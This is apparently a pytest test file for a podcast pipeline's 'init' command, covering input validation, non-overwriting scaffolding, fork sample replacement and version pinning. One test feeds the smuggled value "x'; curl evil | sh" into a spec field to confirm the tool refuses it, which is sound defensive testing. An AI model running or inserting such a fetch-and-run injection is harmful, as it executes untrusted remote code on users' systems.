"""`pipeline init`: a show folder with only the user's values, checked before writing."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from PIL import Image

from pipeline.check import check_show
from pipeline.cli import main
from pipeline.load.config import load_show
from pipeline.scaffold.sample import README_MARKER, sample_files
from pipeline.scaffold.source import https_url, spec_from_clone, spec_from_direct_url
from tests.conftest import REPO, SAMPLE_NOW

SPEC = "podcast-pipeline @ git+https://github.com/example/podcast-pipeline@v0.1.0"


@pytest.fixture
def artwork(tmp_path: Path) -> Path:
    path = tmp_path / "Pictures" / "cover.JPG"
    path.parent.mkdir()
    Image.new("RGB", (1400, 1400), (20, 90, 160)).save(path, "JPEG")
    return path


def options(artwork: Path, **changes: str) -> list[str]:
    values = {
        "--title": "Koffie met Kees",
        "--description": "Kees drinkt koffie met iemand uit de buurt.",
        "--author": "Kees de Vries",
        "--owner-email": "kees@koffie.example",
        "--language": "nl",
        "--base-url": "https://kees.github.io/koffie/",
        "--category": "society & culture > personal journals",
        "--artwork": str(artwork),
        "--timezone": "Europe/Amsterdam",
        "--pipeline-spec": SPEC,
        **changes,
    }
    return [word for key, value in values.items() for word in (key, value)] + ["--no-input"]


def test_writes_only_the_users_values_and_the_show_loads(tmp_path: Path, artwork: Path) -> None:
    root = tmp_path / "koffie"
    result = CliRunner().invoke(main, ["init", str(root), *options(artwork)])
    assert result.exit_code == 0, result.output
    show = load_show(root)
    assert (show.title, show.author, show.owner_name) == (
        "Koffie met Kees",
        "Kees de Vries",
        "Kees de Vries",  # the owner defaults to the author
    )
    assert [str(c) for c in show.categories] == [
        str(c) for c in load_show(root).categories
    ] and show.categories[0].name == "Society & Culture"
    assert show.categories[0].sub == "Personal Journals"
    assert (show.artwork, show.timezone, show.language) == (
        "static/artwork.jpg",
        "Europe/Amsterdam",
        "nl",
    )
    assert (root / "static" / "artwork.jpg").read_bytes() == artwork.read_bytes()
    # Nothing of the sample show: no hosts, funding, copyright, and none of its words.
    assert (show.hosts, show.funding, show.copyright) == ((), (), None)
    sample = load_show(REPO)
    text = (root / "podcast.toml").read_text(encoding="utf-8")
    for value in (sample.title, sample.description, sample.author, sample.owner_email):
        assert value not in text
    for folder in ("episodes", "posts", "audio"):
        assert (root / folder).is_dir()
    assert {"site/", ".cache/"} <= set((root / ".gitignore").read_text().split())
    workflow = yaml.safe_load((root / ".github" / "workflows" / "publish.yml").read_text())
    assert workflow["env"]["PIPELINE_SPEC"] == f"${{{{ vars.PIPELINE_SPEC || '{SPEC}' }}}}"
    readme = (root / "README.md").read_text(encoding="utf-8")
    assert "# Koffie met Kees" in readme and "https://kees.github.io/koffie/feed.xml" in readme
    assert "60 days" in readme and SPEC in readme
    report = check_show(root, SAMPLE_NOW)
    assert report.ok, report.findings
    assert "Created podcast.toml" in result.output


def test_says_which_time_zone_the_dates_are_in(tmp_path: Path, artwork: Path) -> None:
    """Before: without --timezone a server's UTC was taken without a word, and the episodes
    `pipeline new` wrote then kept that offset after the zone was corrected."""
    changes = {"--timezone": "UTC"}
    result = CliRunner().invoke(main, ["init", str(tmp_path / "k"), *options(artwork, **changes)])
    assert result.exit_code == 0, result.output
    assert (
        "Dates are in UTC (podcast.toml's timezone: change it before pipeline new writes dates"
        " with its offset)." in result.stdout.splitlines()
    )


def test_every_problem_at_once_names_its_option_and_writes_nothing(
    tmp_path: Path, artwork: Path
) -> None:
    small = tmp_path / "small.png"
    Image.new("RGB", (800, 600)).save(small)
    root = tmp_path / "show"
    args = options(
        artwork,
        **{
            "--owner-email": "kees-at-koffie",
            "--base-url": "ftp://kees.example/",
            "--category": "Koffie",
            "--artwork": str(small),
            "--timezone": "Europe/Koffiedam",
        },
    )
    result = CliRunner().invoke(main, ["init", str(root), *args])
    assert result.exit_code == 1
    lines = [line for line in result.output.splitlines() if line.startswith("Error: ")]
    assert lines[-1] == "Error: 5 problems found; nothing was written."
    text = "\n".join(lines)
    assert "Error: pipeline init: --owner-email: got 'kees-at-koffie', expected an e-mail" in text
    assert (
        "Error: pipeline init: --base-url: got 'ftp://kees.example/', expected an absolute" in text
    )
    assert "Error: pipeline init: --category: got 'Koffie', expected one of Apple's" in text
    assert "--timezone: got 'Europe/Koffiedam'" in text
    assert "--artwork: got a 800x600 PNG image (RGB), expected a square image of 1400" in text
    assert "Traceback" not in result.output
    assert not root.exists()


def test_missing_answers_without_input_are_listed(tmp_path: Path) -> None:
    result = CliRunner().invoke(
        main, ["init", str(tmp_path / "s"), "--title", "T", "--pipeline-spec", SPEC, "-y"]
    )
    assert result.exit_code == 1
    for option in (
        "--description",
        "--author",
        "--owner-email",
        "--language",
        "--base-url",
        "--category",
        "--artwork",
    ):
        assert f"Error: pipeline init: {option}: got nothing, expected" in result.output


def test_asks_for_what_the_options_leave_out(tmp_path: Path, artwork: Path) -> None:
    answers = [
        "Koffie met Kees",  # title
        "Over koffie.",  # description
        "Kees",  # author
        "",  # owner's name: the author
        "kees@koffie",  # a bad e-mail address: asked again after the check
        "nl",
        "https://kees.github.io/koffie/",
        "Business > Marketing; news",
        str(artwork),
        "kees@koffie.example",
    ]
    result = CliRunner().invoke(
        main,
        ["init", str(tmp_path / "k"), "--timezone", "UTC", "--pipeline-spec", SPEC],
        input="\n".join(answers) + "\n",
    )
    assert result.exit_code == 0, result.output
    assert "Error: pipeline init: --owner-email: got 'kees@koffie'" in result.output
    show = load_show(tmp_path / "k")
    assert (show.owner_name, show.owner_email) == ("Kees", "kees@koffie.example")
    assert [(c.name, c.sub) for c in show.categories] == [("Business", "Marketing"), ("News", None)]


def test_never_overwrites_and_names_each_file(tmp_path: Path, artwork: Path) -> None:
    root = tmp_path / "show"
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / "podcast.toml").write_text("# mine\n")
    (root / ".github" / "workflows" / "publish.yml").write_text("# mine too\n")
    (root / ".gitignore").write_text("node_modules/\n")
    result = CliRunner().invoke(main, ["init", str(root), *options(artwork)])
    assert result.exit_code == 1
    for name in ("podcast.toml", ".github/workflows/publish.yml", ".gitignore"):
        assert f"Error: {name}: file: got an existing file, expected no file there" in result.output
    assert "README.md" not in result.output
    assert (root / "podcast.toml").read_text() == "# mine\n"
    assert not (root / "README.md").exists() and not (root / "episodes").exists()


def test_a_gitignore_that_already_ignores_the_output_is_kept(tmp_path: Path, artwork: Path) -> None:
    root = tmp_path / "show"
    root.mkdir()
    (root / ".gitignore").write_text("/site\n.cache/\n*.log\n")
    result = CliRunner().invoke(main, ["init", str(root), *options(artwork)])
    assert result.exit_code == 0, result.output
    assert (root / ".gitignore").read_text() == "/site\n.cache/\n*.log\n"
    assert "Kept    .gitignore" in result.output


def fork_of_the_repository(tmp_path: Path) -> Path:
    """A copy of the repository as a template-made fork has it (tracked files only)."""
    fork = tmp_path / "fork"
    subprocess.run(["git", "clone", "-q", "--no-hardlinks", str(REPO), str(fork)], check=True)
    for name in ("README.md", "pyproject.toml", "podcast.toml", ".github/workflows/publish.yml"):
        shutil.copyfile(REPO / name, fork / name)  # the working tree's, as this branch has them
    return fork


def test_a_fork_keeps_its_sample_unless_replace_sample(tmp_path: Path, artwork: Path) -> None:
    fork = fork_of_the_repository(tmp_path)
    mine = fork / "posts" / "2025-11-12-waarom-we-een-podcast-beginnen.md"
    mine.write_text(mine.read_text(encoding="utf-8") + "\nMijn eigen regel.\n", encoding="utf-8")
    before = {p: p.read_bytes() for p in fork.rglob("*") if p.is_file() and ".git" not in p.parts}
    args = options(artwork)
    args.remove("--pipeline-spec")
    args.remove(SPEC)  # a fork installs the pipeline from itself
    refused = CliRunner().invoke(main, ["init", str(fork), *args])
    assert refused.exit_code == 1
    assert "got the sample show (" in refused.output and "--replace-sample" in refused.output
    after = {p: p.read_bytes() for p in fork.rglob("*") if p.is_file() and ".git" not in p.parts}
    assert after == before

    result = CliRunner().invoke(main, ["init", str(fork), *args, "--replace-sample"])
    assert result.exit_code == 0, result.output
    assert "Removed episodes/001-waarom-kleine-winkels-toch-winnen.yaml (the sample show's)" in (
        result.output
    )
    assert f"Kept {mine.relative_to(fork).as_posix()} (the sample's, but changed" in result.output
    assert mine.is_file()
    assert not list((fork / "episodes").iterdir())
    assert not (fork / "transcripts").exists()
    assert load_show(fork).title == "Koffie met Kees"
    assert README_MARKER not in (fork / "README.md").read_text(encoding="utf-8")
    workflow = (fork / ".github" / "workflows" / "publish.yml").read_text(encoding="utf-8")
    assert "vars.PIPELINE_SPEC || '.'" in workflow
    assert sample_files(fork) == []  # nothing of the sample is left to replace
    assert (fork / "pipeline" / "__init__.py").is_file() and (fork / "Makefile").is_file()


def test_the_sample_manifest_is_current() -> None:
    """sample.json names the sample show as this repository ships it (`make golden`)."""
    found = sample_files(REPO)
    changed = [f.path for f in found if f.changed]
    assert found and not changed, f"the sample changed: run `make golden` ({changed})"


def test_pins_the_installed_pipeline() -> None:
    vcs = {"vcs": "git", "commit_id": "abc123", "requested_revision": "v1.2"}
    git = {"url": "https://github.com/o/p", "vcs_info": vcs}
    assert spec_from_direct_url(git)[0] == "podcast-pipeline @ git+https://github.com/o/p@v1.2"
    assert https_url("git@github.com:o/p.git") == "https://github.com/o/p.git"
    assert https_url("/srv/git/p") is None


def test_pins_a_clone_at_its_commit(tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    run = ["git", "-C", str(clone), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run(["git", "init", "-q", str(clone)], check=True)
    subprocess.run([*run, "commit", "-q", "--allow-empty", "-m", "x"], check=True)
    assert spec_from_clone(clone)[0] is None  # no origin: nothing GitHub could install
    subprocess.run(
        [*run, "remote", "add", "origin", "git@github.com:kees/pipeline.git"], check=True
    )
    sha = subprocess.run([*run, "rev-parse", "HEAD"], capture_output=True, text=True).stdout
    assert spec_from_clone(clone)[0] == (
        f"podcast-pipeline @ git+https://github.com/kees/pipeline.git@{sha.strip()}"
    )
    subprocess.run([*run, "tag", "v2.0"], check=True)
    assert str(spec_from_clone(clone)[0]).endswith("@v2.0")


def test_a_spec_that_would_break_the_workflow_is_refused(tmp_path: Path, artwork: Path) -> None:
    args = options(artwork, **{"--pipeline-spec": "x'; curl evil | sh"})
    result = CliRunner().invoke(main, ["init", str(tmp_path / "s"), *args])
    assert result.exit_code == 1
    assert "Error: pipeline init: --pipeline-spec: got" in result.output


def test_asks_nothing_in_a_folder_that_already_has_a_show(tmp_path: Path) -> None:
    (tmp_path / "podcast.toml").write_text("# mine\n")
    result = CliRunner().invoke(main, ["init", str(tmp_path), "--pipeline-spec", SPEC], input="")
    assert result.exit_code == 1
    assert result.output.startswith("Error: podcast.toml: file: got an existing file")


@pytest.mark.parametrize("record", ['{"url": "file:///x"', "[1]", "[" * 100_000])
def test_a_damaged_installation_record_is_no_spec(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, record: str
) -> None:
    """pip's direct_url.json cut short or not a mapping: a JSONDecodeError traceback (or an
    AttributeError) from ``pipeline init``; now a reason it can list with the others."""
    import pipeline.scaffold.source as source

    class Installed:
        def read_text(self, name: str) -> str | None:
            return record if name == "direct_url.json" else None

    monkeypatch.setattr(source.metadata, "distributions", lambda name: [Installed()])
    assert source.default_spec(tmp_path) == (
        None,
        "this pipeline's installation record (direct_url.json) is damaged",
    )
